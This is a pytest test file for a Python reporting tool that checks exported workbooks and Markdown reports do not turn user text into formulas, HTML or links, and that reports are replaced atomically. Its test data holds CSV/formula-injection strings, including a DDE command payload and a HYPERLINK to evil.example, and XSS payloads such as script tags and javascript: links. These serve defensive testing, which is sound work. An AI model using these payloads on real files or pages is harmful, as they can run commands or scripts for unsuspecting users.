"""Output safety (issue 11 point 7): no formula from text in a workbook, no HTML or link
from text in Markdown, and a report file is replaced whole or not at all."""

from __future__ import annotations

import io
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from markdown_it import MarkdownIt
from reports_support import render, report, result

import goalkit
import goalkit.goals
from goalkit.model._result import Cell, DataIssue, Report, Status

ROOT = Path(__file__).resolve().parents[1]
GOALS = str(ROOT / "examples/quickstart/goals.toml")
DATA = str(ROOT / "examples/quickstart/data")

FORMULAS = ('=HYPERLINK("http://evil.example/?x","klicka")', "=cmd|' /C calc'!A0",
            "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")
MARKUP = ("<script>alert(1)</script>", '<img src=x onerror="alert(1)">',
          "[klicka](javascript:alert(1))", "![bild](http://evil.example/x.png)",
          "<a href='javascript:alert(1)'>x</a>", "[ref]: javascript:alert(1)",
          "<javascript:alert(1)>", "*fet* _kursiv_ `kod`")


def hostile(texts: tuple[str, ...]) -> Report:
    """A report whose every text from a goal file or the data is ``texts``."""
    first, *rest = texts
    cells = {text: Cell(value=0.5, success=10, failure=10, pending=0, excluded=0,
                        numerator=10, denominator=20) for text in texts}
    r = result(
        "g", title=goalkit.goals.Text(sv=first, en=first), wording=" ".join(rest),
        interpretation=goalkit.goals.Text(sv=" ".join(texts), en=" ".join(texts)),
        definition=goalkit.goals.Text(sv=first, en=first), value=0.5, numerator=200,
        denominator=400, success=200, failure=200, status=Status.MET,
        evidence=tuple(texts), notes=tuple(texts), breakdowns={"kommun": cells})
    base = report(r)
    issues = tuple(DataIssue(severity="warning", code="unknown_code", message=text,
                             where=text) for text in texts)
    return Report(project_id=base.project_id, project_name=goalkit.goals.Text(sv=first, en=first),
                  as_of=base.as_of, results=base.results, issues=issues,
                  generator=base.generator)


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_no_text_becomes_a_formula_in_the_workbook(lang: str) -> None:
    """Text starting with =, +, -, @, a tab or a carriage return, from a goal file or the
    data, is a string cell in every sheet, never a formula."""
    body = render("xlsx", [hostile(FORMULAS)], lang=lang)
    assert isinstance(body, bytes)
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", z.read(name)), name
    wb = openpyxl.load_workbook(io.BytesIO(body))
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    # every hostile text arrived, as text (the workbook keeps them, it does not run them)
    for text in FORMULAS:
        assert any(text.strip() in value for value in seen), text


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_markdown_passes_no_html_and_no_link_from_text(lang: str) -> None:
    """Rendered by a CommonMark renderer (HTML allowed, as many wikis do), the Markdown report
    holds no script, image, element or link that came from a goal file or the data."""
    body = render("md", [hostile(MARKUP)], lang=lang)
    assert isinstance(body, str)
    page = MarkdownIt("commonmark", {"html": True}).render(body)
    for bad in ("<script", "<img", "<a ", 'href="', 'src="', "<em>fet", "<code>"):
        assert bad not in page, bad
    # the texts are still there for a reader, as text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "klicka" in page


def test_a_failed_write_leaves_the_previous_report(tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "r.md"
    target.write_bytes(b"the previous report")

    def refuse(self: Path, other: Path) -> Path:
        raise OSError(28, "No space left on device")

    from goalkit.reports._files import write_atomically  # noqa: PLC0415

    monkeypatch.setattr(Path, "replace", refuse)
    with pytest.raises(OSError, match="No space") as failed:
        write_atomically(target, b"x" * 100_000)
    assert failed.value.filename == str(target)  # the error names the file it was for
    assert target.read_bytes() == b"the previous report"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.md"]  # no temporary file left


LIMITED = """
import resource, sys
from goalkit.cli import main
resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))
sys.exit(main(sys.argv[1:]))
"""


@pytest.mark.parametrize("fmt", ["html", "md"])  # xlsx: openpyxl itself spools to disk
def test_a_full_disk_leaves_the_previous_report_whole(tmp_path: Path, fmt: str) -> None:
    """A run that cannot write the whole file (here: files capped at 4 kB, as on a full
    disk) fails and leaves the previous good report as it was, not a short one that opens
    as if complete; no temporary file is left behind."""
    target = tmp_path / f"report.{fmt}"
    args = ["report", GOALS, "--data", DATA, "--as-of", "2015-06-15", "--format", fmt,
            "--lang", "sv", "--out", str(target)]
    first = subprocess.run([sys.executable, "-c", "import sys; from goalkit.cli import main; "
                            "sys.exit(main(sys.argv[1:]))", *args],
                           capture_output=True, check=False)
    assert first.returncode in (0, 1), first.stderr
    good = target.read_bytes()
    assert len(good) > 4096
    target.write_bytes(good)
    again = subprocess.run([sys.executable, "-c", LIMITED, *args], capture_output=True,
                           check=False)
    assert again.returncode not in (0, 1), again.stderr
    assert target.read_bytes() == good
    assert sorted(p.name for p in tmp_path.iterdir()) == [target.name]
